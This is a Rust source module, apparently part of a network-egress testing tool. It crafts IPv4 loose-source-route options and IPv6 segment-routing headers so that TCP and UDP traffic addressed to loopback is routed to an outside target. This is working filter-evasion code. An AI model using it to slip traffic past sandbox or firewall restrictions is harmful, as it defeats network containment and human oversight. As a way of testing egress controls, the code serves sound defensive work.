//! Source routes: the address says loopback, the packet goes elsewhere.

use super::sys::{Socket, Step};
use super::target::Target;
use super::tcp::talk;
use std::net::{Ipv4Addr, Ipv6Addr, SocketAddr};

const IPV6_RTHDR: i32 = 57;

/// Loose source route: the given address becomes the first hop, the list's end the destination.
fn lsrr(socket: &Socket, first_hop: Ipv4Addr, then: Ipv4Addr) -> Step<()> {
    // NOP, LSRR, length 11, pointer 4, two addresses.
    let mut option = vec![1, 131, 11, 4];
    option.extend(first_hop.octets());
    option.extend(then.octets());
    socket.set_bytes("IP_OPTIONS", libc::IPPROTO_IP, libc::IP_OPTIONS, &option)
}

pub fn lsrr_tcp(t: &Target) -> Step<()> {
    let socket = Socket::tcp(t.at4())?;
    lsrr(&socket, t.gateway, t.v4)?;
    talk(
        &socket,
        SocketAddr::new(Ipv4Addr::LOCALHOST.into(), t.port),
        t,
    )
}

pub fn lsrr_udp(t: &Target) -> Step<()> {
    let socket = Socket::udp(t.at4())?;
    lsrr(&socket, t.gateway, t.v4)?;
    socket.send_to(
        t.payload(),
        0,
        SocketAddr::new(Ipv4Addr::LOCALHOST.into(), t.port),
    )
}

/// SRv6 header with one segment: the outside.
fn srh(socket: &Socket, segment: Ipv6Addr) -> Step<()> {
    let mut header = vec![0, 4, 4, 1, 1, 0, 0, 0];
    header.extend([0; 16]);
    header.extend(segment.octets());
    socket.set_bytes("IPV6_RTHDR", libc::IPPROTO_IPV6, IPV6_RTHDR, &header)
}

pub fn srh_udp(t: &Target) -> Step<()> {
    let socket = Socket::udp(t.at6())?;
    srh(&socket, t.v6)?;
    socket.send_to(
        t.payload(),
        0,
        SocketAddr::new(Ipv6Addr::LOCALHOST.into(), t.port),
    )
}

pub fn srh_tcp(t: &Target) -> Step<()> {
    let socket = Socket::tcp(t.at6())?;
    srh(&socket, t.v6)?;
    talk(
        &socket,
        SocketAddr::new(Ipv6Addr::LOCALHOST.into(), t.port),
        t,
    )
}
